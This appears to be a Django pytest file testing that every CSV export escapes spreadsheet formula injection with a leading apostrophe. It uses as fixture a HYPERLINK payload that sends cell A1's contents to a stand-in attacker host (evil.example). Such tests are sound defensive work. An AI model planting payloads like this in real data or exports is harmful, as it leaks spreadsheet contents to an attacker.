"""Formula injection: a value typed as "=HYPERLINK(…)" arrives in every CSV the app writes as text, never as a
live formula (config/csv_export.py, the one writer). A spreadsheet runs a cell that starts with =, +, -, @, a
tab or a carriage return (OWASP, "CSV Injection"); the writer puts an apostrophe before such text, which a
spreadsheet reads as "this is text" and does not show."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.utils import timezone

from config.csv_export import safe_cell, writer
from schools.factories import SchoolFactory
from sessions.factories import UnavailabilityFactory
from stats.factories import FigureFactory, SourceFactory
from stats.models import Indicator
from stats.picture import OFFENCES

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def cells(content: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.removeprefix("\ufeff"))) for cell in row]


def streamed(response) -> str:
    return b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()


@pytest.mark.parametrize("value", STARTS)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe_before_it(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [0, -12, -3.5, None, "", "Siân Evans", "a=b", "'quoted already", "2027-03-09"])
def test_numbers_stay_numbers_and_other_text_is_written_as_it_is(value):
    assert safe_cell(value) == ("" if value is None else value)


def test_the_writer_escapes_every_cell_and_quotes_text_so_a_semicolon_cannot_start_a_new_cell():
    out = io.StringIO()

    writer(out).writerow(["x;=1+1", FORMULA, -4, None])

    assert out.getvalue() == '"x;=1+1","\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",-4,""\r\n'


def test_the_statistics_table_writes_a_formula_in_a_source_or_area_name_as_text(staff_client, thames_valley):
    thames_valley.name = FORMULA
    thames_valley.save()
    FigureFactory(area=thames_valley, indicator=Indicator.objects.get(slug=OFFENCES), period="2030/31",
                  value=5, source=SourceFactory(publisher=FORMULA, url="https://example.org/=1+1"))

    content = staff_client.get("/stats/areas.csv").content.decode()

    assert "'" + FORMULA in cells(content)
    assert f"'{FORMULA}: " in " ".join(cells(content))  # the source, named by its publisher first
    assert not [cell for cell in cells(content) if cell.startswith(("=", "+", "@"))]


def test_a_volunteers_own_data_download_writes_a_formula_they_typed_as_text(volunteer_client):
    UnavailabilityFactory(volunteer=volunteer_client.volunteer, reason=FORMULA)

    content = volunteer_client.get("/me/details.csv").content.decode()

    assert "'" + FORMULA in cells(content) and FORMULA not in cells(content)


def test_the_admins_export_writes_a_formula_in_a_name_as_text(staff_client, thames_valley):
    school = SchoolFactory(name=FORMULA, in_area=thames_valley)

    response = staff_client.post("/admin/schools/school/",
                                 {"action": "export_as_csv", "index": "0", "_selected_action": [school.pk]})

    assert "'" + FORMULA in cells(streamed(response))


def test_the_reach_report_writes_a_formula_in_an_area_name_as_text(staff_client, thames_valley):
    thames_valley.name = FORMULA
    thames_valley.save()

    content = staff_client.get(f"/reach/reach.csv?year={timezone.localdate().year - 1}").content.decode()

    assert "'" + FORMULA in cells(content)




def test_every_csv_the_project_writes_goes_through_the_one_escaping_writer():
    own_writers = {
        str(path.relative_to(ROOT))
        for folder in ("config", "stats", "schools", "sessions")
        for path in (ROOT / folder).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text()) and path != ROOT / "config" / "csv_export.py"
    }

    assert own_writers == set(), "route these through config.csv_export.writer"
